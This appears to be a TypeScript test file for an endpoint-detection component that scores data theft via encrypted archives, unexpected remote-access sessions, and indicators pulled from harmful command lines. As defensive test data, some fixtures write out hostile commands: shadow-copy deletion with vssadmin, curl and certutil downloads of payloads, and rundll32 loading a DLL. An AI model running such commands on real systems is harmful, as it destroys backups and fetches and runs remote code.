// What the log of a machine tells beside single commands: archives that were carried away, and help by a stranger.
import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { connect } from '../../test/support/connect.ts'
import { endpointDetection } from './endpoint-detection.ts'

const at = '2026-10-26T05:00:00Z'
const minutes = (from: number) => new Date(Date.parse(at) + from * 60_000).toISOString()
const event = (from: number, more: object) => ({ Timestamp: minutes(from), DeviceName: 'pc-17.corp.example', ...more })
const packed = (command: string) =>
  event(-20, { ActionType: 'ProcessCreated', FileName: '7z.exe', ProcessCommandLine: command })
const sent = (RemoteUrl: string) =>
  event(0, { ActionType: 'ConnectionSuccess', RemoteUrl, InitiatingProcessFileName: 'chrome.exe' })
const deleted = (FileName: string) => event(9, { ActionType: 'FileDeleted', FileName })
const helped = (folder: string) => [
  event(-5, { ActionType: 'ProcessCreated', FileName: 'AnyDesk.exe', ProcessCommandLine: `"${folder}\\AnyDesk.exe"` }),
  event(0, { ActionType: 'ConnectionSuccess', RemoteIP: '57.128.101.75', InitiatingProcessFileName: 'AnyDesk.exe' }),
]

async function ask(t: TestContext, log: object[], before: object[] = []) {
  const { run } = await connect(t, endpointDetection, {
    answer: ({ body }) => ({ json: { Results: body.includes('union') ? log : before } }),
    credentials: { tenant_id: 'corp.onmicrosoft.com', client_id: 'client', client_secret: 'the secret' },
    settings: (origin) => ({ auth_url: origin, api_host: origin, scope_resource: 'https://resource.example' }),
  })
  const { findings } = await run('find-harmful-commands', { machine: 'pc-17', at })
  return Math.round((findings[0]?.weight ?? 0) * 100) / 100
}

const secret = packed('7z.exe a -pQ8w2 -mhe=on C:\\Work\\a-47.7z C:\\Work\\Customers')

test('an archive with a password that is sent away or deleted is suspicious, and neither alone is', async (t) => {
  assert.equal(await ask(t, [secret]), 0.35)
  assert.equal(await ask(t, [secret, sent('www.dropbox.com')]), 0.48)
  assert.equal(await ask(t, [secret, sent('slingsend.io'), deleted('a-47.7z')]), 0.58)
  assert.equal(await ask(t, [sent('www.dropbox.com'), deleted('a-47.7z')]), 0)
  const open = packed('7z.exe a C:\\Work\\a-47.7z C:\\Work\\Customers')
  assert.equal(await ask(t, [open, sent('www.dropbox.com'), deleted('a-47.7z')]), 0)
  assert.equal(await ask(t, [secret, sent('portal.customer.example'), deleted('other.7z')]), 0.35)
})

test('what is packed so every week is work, whatever the number of the week', async (t) => {
  const week = (days: number, number: number) => ({
    Timestamp: minutes(-days * 1440),
    FileName: '7z.exe',
    ProcessCommandLine: `7z.exe a -pQ8w2 -mhe=on C:\\Work\\a-${number}.7z C:\\Work\\Customers`,
  })
  assert.equal(await ask(t, [secret, sent('www.dropbox.com')], [week(7, 46), week(14, 45)]), 0)
  assert.equal(await ask(t, [secret, sent('www.dropbox.com')], [week(7, 46)]), 0.48)
})

test('help by a stranger is suspicious: a program from a folder of the user that nobody ran before, with a session', async (t) => {
  const own = 'C:\\Users\\ann\\Downloads'
  assert.equal(await ask(t, helped(own)), 0.48)
  assert.equal(await ask(t, helped(own).slice(0, 1)), 0.35)
  assert.equal(await ask(t, helped('C:\\Program Files (x86)\\AnyDesk')), 0)
  const earlier = [3, 9].map((days) => ({
    Timestamp: minutes(-days * 1440),
    FileName: 'anydesk.exe',
    ProcessCommandLine: '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"',
  }))
  assert.equal(await ask(t, helped(own), earlier), 0)
})

test('only outer addresses and whole links of harmful commands are followed, whatever else looks like one', () => {
  const skill = endpointDetection.skills.find(({ id }) => id === 'find-harmful-commands')
  const commands = [
    'vssadmin delete shadows /all /quiet & rem 999.9.9.9 08.1.2.3 10.4.4.4',
    'curl -o a.exe http://185.38.114.66/a.exe http://[/b.exe',
  ]
  const events = commands.map((ProcessCommandLine) => event(0, { ProcessCommandLine }))
  const found =
    skill?.discovers?.({ input: { machine: 'pc-17' }, output: { events, traces: [], truncated: false } }) ?? []
  assert.deepEqual(
    found.map(({ observable }) => observable.value),
    ['http://185.38.114.66/a.exe', '185.38.114.66'],
  )
})

test('a file that was there before a harmful command names it ran with it, and one that came later was fetched', () => {
  const skill = endpointDetection.skills.find(({ id }) => id === 'find-harmful-commands')
  const events = [
    event(0, { ProcessCommandLine: 'rundll32.exe C:\\ProgramData\\ldrv.dll,Boot' }),
    event(0, { ProcessCommandLine: 'certutil -urlcache -f http://files.example/next.ps1 C:\\Temp\\next.ps1' }),
  ]
  const traces = [
    event(-4, { ActionType: 'FileCreated', FileName: 'ldrv.dll', SHA256: 'a'.repeat(64) }),
    event(1, { ActionType: 'FileCreated', FileName: 'next.ps1', SHA256: 'b'.repeat(64) }),
  ]
  const found = skill?.discovers?.({ input: { machine: 'pc-17' }, output: { events, traces, truncated: false } }) ?? []
  const files = found.filter(({ observable }) => observable.kind === 'hash')
  assert.deepEqual(
    files.map(({ observable, ran_at }) => [observable.value[0], ran_at !== undefined]),
    [
      ['a', true],
      ['b', false],
    ],
  )
})
